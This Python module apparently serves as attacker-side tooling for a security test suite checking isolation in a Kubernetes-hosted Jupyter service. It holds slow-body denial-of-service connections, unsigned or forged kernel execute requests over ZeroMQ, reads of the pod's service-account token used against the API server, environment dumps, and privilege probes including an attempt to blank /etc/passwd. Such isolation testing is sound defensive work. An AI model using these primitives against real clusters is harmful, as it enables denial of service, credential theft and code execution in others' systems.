"""What an attacker runs in a pod of their own: requests, websockets, ZeroMQ, looks at itself.

Sent to `python -c` in the pod as it is, so it imports nothing of this project; the images of
notebooks and kernels have tornado and pyzmq. Reads one JSON array a line, [function, {arguments}],
and answers each with one JSON object.
"""

from __future__ import annotations

import asyncio
import contextlib
import hashlib
import hmac
import http.client
import json
import os
import pathlib
import socket
import ssl
import sys
import time
import uuid
from typing import Any
from urllib.parse import urlsplit

_ACCOUNT = pathlib.Path("/var/run/secrets/kubernetes.io/serviceaccount")
_PATIENCE = 30.0


def request(
    method: str,
    url: str,
    headers: dict[str, str],
    body: str | None = None,
    repeat: int = 1,
) -> dict[str, Any]:
    """One HTTP request; or its body `repeat` times as long, for large ones."""
    parts = urlsplit(url)
    path = url.partition(parts.netloc)[2] or "/"
    connection: http.client.HTTPConnection
    if parts.scheme == "https":
        unverified = ssl.create_default_context()
        unverified.check_hostname, unverified.verify_mode = False, ssl.CERT_NONE
        connection = http.client.HTTPSConnection(
            parts.netloc, timeout=_PATIENCE, context=unverified
        )
    else:
        connection = http.client.HTTPConnection(parts.netloc, timeout=_PATIENCE)
    try:
        connection.putrequest(method, path, skip_accept_encoding=True)
        for name, value in headers.items():
            connection.putheader(name, value)
        data = (body or "").encode(errors="surrogateescape") * repeat
        if body is not None:
            connection.putheader("Content-Length", str(len(data)))
        connection.endheaders()
        with contextlib.suppress(BrokenPipeError, ConnectionResetError):
            connection.send(data)
        try:
            response = connection.getresponse()
        except ConnectionResetError:
            return {"status": "closed", "text": ""}
        text = response.read(200_000).decode(errors="replace")
        return {"status": response.status, "text": text}
    finally:
        connection.close()


def drip(host: str, port: int, token: str, connections: int) -> dict[str, Any]:
    """Bodies that come a byte a second, on many connections; how long each was listened to."""
    head = f"POST /api/kernels HTTP/1.1\r\nHost: {host}\r\nAuthorization: token {token}\r\n"
    head += "Content-Length: 90\r\n\r\n"
    sockets = [socket.create_connection((host, port), _PATIENCE) for _ in range(connections)]
    began = time.monotonic()
    for one in sockets:
        one.sendall(head.encode())
    left = list(sockets)
    while left and time.monotonic() - began < _PATIENCE:
        for one in list(left):
            one.settimeout(0.0)
            try:
                one.send(b"{")
                if not one.recv(1000):
                    left.remove(one)
            except BlockingIOError:
                pass
            except OSError:
                left.remove(one)
        time.sleep(1.0)
    for one in sockets:
        one.close()
    return {"left": len(left), "seconds": time.monotonic() - began}


def websocket(
    url: str, headers: dict[str, str], messages: list[str], seconds: float = 5.0
) -> dict[str, Any]:
    """Connect and send; the handshake's refusal, or what came back until `seconds` or the end."""
    from tornado.httpclient import HTTPClientError, HTTPRequest
    from tornado.websocket import websocket_connect

    async def talk() -> dict[str, Any]:
        try:
            connection = await websocket_connect(HTTPRequest(url, headers=headers))
        except HTTPClientError as error:
            body = error.response.body.decode() if error.response else ""
            return {"status": error.code, "text": body}
        for message in messages:
            await connection.write_message(message)
        heard: list[str] = []
        ended = set()
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(seconds):
                while (message := await connection.read_message()) is not None:
                    heard.append(str(message)[:2000])
                    parsed = json.loads(message)
                    state = parsed["content"].get("execution_state", parsed["msg_type"])
                    if parsed["parent_header"].get("msg_type") == "execute_request":
                        ended.add(state)
                    if {"idle", "execute_reply"} <= ended:  # they come by channels of their own
                        break
                else:
                    return {"status": "closed", "code": connection.close_code, "heard": heard}
        connection.close()
        return {"status": 101, "heard": heard}

    return asyncio.run(talk())


def execute_directly(address: str, key: str, code: str, seconds: float = 2.0) -> dict[str, Any]:
    """Send a cell to a kernel's shell port, signed with that key; whether it answers."""
    import zmq

    header = {
        "msg_id": uuid.uuid4().hex,
        "msg_type": "execute_request",
        "session": uuid.uuid4().hex,
        "username": "",
        "version": "5.3",
        "date": "2026-01-01T00:00:00Z",
    }
    content = {"code": code, "silent": False, "store_history": False, "allow_stdin": False}
    parts = [json.dumps(part).encode() for part in (header, {}, {}, content)]
    signature = hmac.new(key.encode(), b"".join(parts), hashlib.sha256).hexdigest().encode()
    dealer = zmq.Context.instance().socket(zmq.DEALER)
    dealer.linger = 0
    dealer.connect(f"tcp://{address}:52317")
    dealer.send_multipart([b"<IDS|MSG>", signature if key else b"", *parts])
    answered = bool(dealer.poll(int(1000 * seconds)))
    dealer.close()
    return {"answered": answered}


def listen(address: str, seconds: float = 2.0) -> dict[str, Any]:
    """Subscribe to what a kernel publishes; how much of it is heard."""
    import zmq

    subscriber = zmq.Context.instance().socket(zmq.SUB)
    subscriber.linger = 0
    subscriber.subscribe(b"")
    subscriber.connect(f"tcp://{address}:52318")
    heard = bool(subscriber.poll(int(1000 * seconds)))
    subscriber.close()
    return {"heard": heard}


def connects(address: str, port: int) -> dict[str, Any]:
    """Whether a connection comes about."""
    try:
        socket.create_connection((address, port), 3).close()
    except OSError as error:
        return {"connected": False, "error": str(error)}
    return {"connected": True}


def cluster(method: str, path: str, body: str | None = None) -> dict[str, Any]:
    """A request to the API server, with the pod's own credentials if it has some."""
    token = _ACCOUNT / "token"
    headers = {"Content-Type": "application/json"}
    if token.exists():
        headers["Authorization"] = f"Bearer {token.read_text()}"
    host = os.environ.get("KUBERNETES_SERVICE_HOST") or "kubernetes.default"
    port = os.environ.get("KUBERNETES_SERVICE_PORT", "443")
    return request(method, f"https://{host}:{port}{path}", headers, body) | {
        "has_token": token.exists()
    }


def environment() -> dict[str, str]:
    """The pod's variables."""
    return dict(os.environ)


def powers() -> dict[str, Any]:
    """What the processes here may do, as the kernel of the node has it, and by trying."""
    lines = pathlib.Path("/proc/self/status").read_text().splitlines()
    status = dict(line.split(":\t", 1) for line in lines if ":\t" in line)
    tried = {}
    for name, attempt in {
        "setuid": lambda: os.setuid(0),
        "chroot": lambda: os.chroot("/tmp"),
        "device": lambda: os.mknod("/tmp/device", 0o60600, os.makedev(8, 0)),
        "write": lambda: pathlib.Path("/etc/passwd").write_text(""),
    }.items():
        try:
            attempt()
        except OSError as error:
            tried[name] = error.strerror or str(error)
        else:
            tried[name] = "done"
    return {
        "uid": os.getuid(),
        "no_new_privileges": status.get("NoNewPrivs") == "1",
        "capabilities": int(status["CapEff"], 16) | int(status["CapBnd"], 16),
        "seccomp": status.get("Seccomp"),
        "tried": tried,
    }


def read(path: str) -> dict[str, Any]:
    """A file of the pod's."""
    try:
        return {"text": pathlib.Path(path).read_text()}
    except OSError as error:
        return {"text": None, "error": error.strerror}


if __name__ == "__main__":
    for line in sys.stdin:
        name, arguments = json.loads(line)
        try:
            answer = globals()[name](**arguments)
        except Exception as error:  # noqa: BLE001 - the next line is to be answered as well
            answer = {"status": "error", "text": f"{type(error).__name__}: {error}"}
        print(json.dumps(answer), flush=True)
